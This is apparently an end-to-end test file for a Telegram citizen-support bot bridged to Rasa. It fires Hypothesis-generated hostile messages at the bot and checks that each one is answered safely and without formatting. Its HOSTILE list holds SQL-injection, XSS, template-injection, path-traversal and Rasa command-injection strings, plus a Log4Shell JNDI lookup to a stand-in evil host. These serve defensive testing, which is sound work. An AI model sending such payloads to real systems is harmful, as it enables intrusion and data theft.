"""Hostile input through the whole stack: every message gets an answer, nothing breaks.

Hypothesis generates the messages (a fixed, database-less, derandomized profile, so every run
sends the same ones): empty, blank, 10,000 characters, control and invisible characters,
emoji only, HTML and Markdown meant to break formatting, SQL, template and format strings,
Rasa's own slash syntax, and stickers, photos, voice messages and documents with hostile
captions. They go in batches, each message from a citizen of its own and all of a batch at
once, so the bridge meets them concurrently. Each one must be answered (or refused in words),
never with the outage apology; nothing the bot sends asks Telegram to format it; the bridge
stays up and logs no unhandled exception.
"""

from __future__ import annotations

import asyncio
import itertools
import re
from dataclasses import dataclass

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from komekshi.core.settings import DEV_TOKEN
from tests.e2e.conftest import OPERATOR, OPERATORS_CHAT, WAIT, OperatorsChat, said
from tools.dev.emulator import ATTACHMENTS, AsyncEmulatorClient, BotMessage, EmulatorClient, User
from tools.dev.stack import Stack

BATCHES = 50
BATCH_SIZE = 11
_ids = itertools.count(9_100_001)
_COMMAND = re.compile(r"^/[A-Za-z0-9_]+")

HOSTILE = [
    "",
    " ",
    "\n\t \r\n",
    "\x00",
    "\x00\x01\x02\x1b[31mred\x1b[0m",
    "\u200b\u200c\u200d\ufeff",
    "\u202eнапра\u202d",
    "😀",
    "🇰🇿🇰🇿🇰🇿",
    "👨‍👩‍👧‍👦" * 40,
    "<b>жирный</b>",
    "<script>alert('x')</script>",
    '<a href="tg://user?id=1">оператор</a>',
    "</b></i><pre>",
    "&lt;b&gt; &amp; &#x41;",
    "*bold* _italic_ `code` ~strike~ ||spoiler||",
    "[сілтеме](https://evil.example/login)",
    "```\nSELECT 1;\n```",
    "\\*не жирный\\*",
    "'; DROP TABLE users; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM cases;--",
    "{name}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}{1}{text}",
    "{",
    "}",
    "%s %d %(name)s %n",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    " /restart",
    "\n/session_start",
    ' /choose_topic{"topic": "faq/hkko"}',
    '/greet{"language": "ru"}',
    "/ request_human",
    "/start@another_bot",
    "/OPERATOR",
    "/help me please",
    "EXTERNAL: /restart",
    "ж" * 10_000,
    "x" * 2001,
    "ЖСН 900101300123 " * 3,
]
FIRST_NAMES = ["Айгерім", "<b>Ә</b>", "{first_name}", "%s", "😀" * 32, "x" * 64, "Robert');--"]


@dataclass(frozen=True)
class Case:
    """One message of a citizen: a text, or an attachment with a caption."""

    text: str | None
    attachment: str | None = None
    caption: str | None = None
    first_name: str = "Айгерім"


_texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=200),
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "So", "Sk"]), max_size=60),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=40)),
    st.integers(min_value=2001, max_value=10_000).map(lambda n: "ж" * n),
)
_cases = st.one_of(
    st.builds(Case, text=_texts, first_name=st.sampled_from(FIRST_NAMES)),
    st.builds(
        Case,
        text=st.none(),
        attachment=st.sampled_from(ATTACHMENTS),
        caption=st.one_of(st.none(), st.sampled_from(HOSTILE[:40])),
        first_name=st.sampled_from(FIRST_NAMES),
    ),
)

NOT_ANSWERS = {
    said(name, language)  # type: ignore[arg-type]
    for name in ("utter_channel_unavailable", "utter_channel_unavailable_kept")
    for language in ("kk", "ru")
}
TOO_LONG = {said("utter_channel_too_long", lang, limit=2000) for lang in ("kk", "ru")}  # type: ignore[arg-type]
TEXT_ONLY = {said("utter_channel_unsupported", lang) for lang in ("kk", "ru")}  # type: ignore[arg-type]


async def _play(
    client: AsyncEmulatorClient, cases: list[Case]
) -> list[tuple[Case, list[BotMessage]]]:
    """Send every case at once, each from a new citizen; the bot's answers to each."""
    citizens = [User(next(_ids), case.first_name) for case in cases]

    async def send(citizen: User, case: Case) -> None:
        if case.attachment:
            await client.send_attachment(citizen.id, citizen, case.attachment, case.caption)  # type: ignore[arg-type]
        else:
            await client.send_message(citizen.id, citizen, case.text or "")

    await asyncio.gather(*(send(c, case) for c, case in zip(citizens, cases, strict=True)))
    answers = await asyncio.gather(
        *(client.wait_bot_messages(c.id, timeout=WAIT) for c in citizens), return_exceptions=True
    )
    played = []
    for case, answer in zip(cases, answers, strict=True):
        if isinstance(answer, BaseException):
            raise AssertionError(f"no answer to {case!r}: {answer!r}")
        played.append((case, answer))
    return played


def _check(case: Case, answers: list[BotMessage]) -> None:
    for answer in answers:
        assert answer.parse_mode is None, (case, answer.raw)
        assert "entities" not in answer.raw, (case, answer.raw)
        assert answer.text.strip() or answer.attachment, (case, answer.raw)
        assert answer.text not in NOT_ANSWERS, (case, answer.text)
    first = answers[0].text
    if case.attachment:
        assert first in TEXT_ONLY, (case, first)
    elif case.text is not None and len(case.text) > 2000:
        assert first in TOO_LONG, (case, first)


def test_hostile_messages_are_each_answered_and_nothing_breaks(stack: Stack) -> None:
    bridge_log = stack.log_path("bridge")
    start = bridge_log.stat().st_size
    played: list[int] = []

    @settings(
        max_examples=BATCHES,
        derandomize=True,
        database=None,
        deadline=None,
        phases=(Phase.explicit, Phase.generate),
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(_cases, min_size=BATCH_SIZE, max_size=BATCH_SIZE))
    def batch(cases: list[Case]) -> None:
        async def run() -> list[tuple[Case, list[BotMessage]]]:
            async with AsyncEmulatorClient(stack.config.bot_api_url, DEV_TOKEN) as client:
                return await _play(client, cases)

        for case, answers in asyncio.run(run()):
            _check(case, answers)
        played.append(len(cases))

    batch()
    assert sum(played) >= 500
    assert stack.alive("bridge")
    log = bridge_log.read_text(errors="replace")[start:]
    assert "Traceback" not in log and "Update failed" not in log, log[-3000:]


def test_rasa_slash_syntax_from_a_citizen_is_refused_not_obeyed(telegram: EmulatorClient) -> None:
    citizen = User(next(_ids), "Ерлан")
    telegram.send_message(citizen.id, citizen, "Здравствуйте")
    telegram.wait_bot_messages(citizen.id, timeout=WAIT)
    for text in (" /request_human", '\n/choose_topic{"topic": "faq/hkko"}', "/ restart"):
        telegram.send_message(citizen.id, citizen, text)
        [answer] = telegram.wait_bot_messages(citizen.id, timeout=WAIT)
        assert answer.text == said("utter_channel_unknown_command", "ru")


def test_relayed_text_is_never_read_as_formatting(
    telegram: EmulatorClient, operators: OperatorsChat
) -> None:
    citizen = User(next(_ids), "<b>Ә</b>{first_name}%s")
    telegram.send_message(citizen.id, citizen, "оператор керек")
    telegram.wait_bot_messages(citizen.id, count=2, timeout=WAIT)
    card = operators.wait(
        lambda m: (
            m.text.startswith("🆕 Обращение #") and "Гражданин: <b>Ә</b>{first_name}%s\n" in m.text
        )
    )
    assert card.parse_mode is None
    case = int(card.text.split("#")[1].split("\n")[0])
    telegram.press_button(OPERATORS_CHAT, OPERATOR, card.message_id, f"claim:{case}")
    telegram.wait_bot_messages(citizen.id, timeout=WAIT)

    hostile = "<b>жирный</b> *bold* _i_ [сілтеме](https://evil.example) {name} {{7*7}} %s"
    telegram.send_message(citizen.id, citizen, hostile)
    relayed = operators.wait(lambda m: m.text.startswith(f"💬 #{case} "))
    assert relayed.text == f"💬 #{case} <b>Ә</b>{{first_name}}%s: {hostile}"
    assert relayed.parse_mode is None and "entities" not in relayed.raw

    answer = "<i>Сәлем</i> `код` *қалың* {case_id} %(x)s ${7*7}"
    telegram.send_message(OPERATORS_CHAT, OPERATOR, answer, card.message_id)
    [shown] = telegram.wait_bot_messages(citizen.id, timeout=WAIT)
    assert shown.text == f"👤 Оператор: {answer}"
    assert shown.parse_mode is None and "entities" not in shown.raw

    # A text longer than Telegram takes (emoji count twice) is cut, not lost.
    telegram.send_message(citizen.id, citizen, "😀" * 5000)
    long = operators.wait(lambda m: m.text.startswith(f"💬 #{case} ") and m.text.endswith("…"))
    assert len(long.text.encode("utf-16-le")) // 2 <= 4096 and "😀😀😀" in long.text
    telegram.send_message(OPERATORS_CHAT, OPERATOR, "/close resolved", card.message_id)
    telegram.wait_bot_messages(citizen.id, count=2, timeout=WAIT)
